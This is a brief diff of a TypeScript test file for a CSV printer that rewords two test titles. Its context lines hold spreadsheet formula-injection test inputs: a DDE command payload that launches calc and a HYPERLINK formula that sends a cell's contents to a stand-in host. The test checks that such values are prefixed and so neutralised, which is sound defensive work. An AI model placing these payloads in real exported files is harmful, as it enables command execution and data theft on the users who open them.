@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { renderCsv } from '../../../src/print/printers.ts';
 
-test('quotes only where necessary, and escapes terminal control characters', () => {
+test('quotes only if necessary, and escapes terminal control characters', () => {
   assert.equal(
     renderCsv([
       ['a', 'b c', ''],
@@ -13,7 +13,7 @@ test('quotes only where necessary, and escapes terminal control characters', () 
   assert.equal(renderCsv([]), '');
 });
 
-test('prefixes a text that a spreadsheet would run as a formula, and keeps numbers', () => {
+test('prefixes a text that a spreadsheet would run as a formula, but not numbers', () => {
   const cases: [text: string, cell: string][] = [
     ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
     ['=HYPERLINK("http://x/?"&A1,"y")', `"'=HYPERLINK(""http://x/?""&A1,""y"")"`],
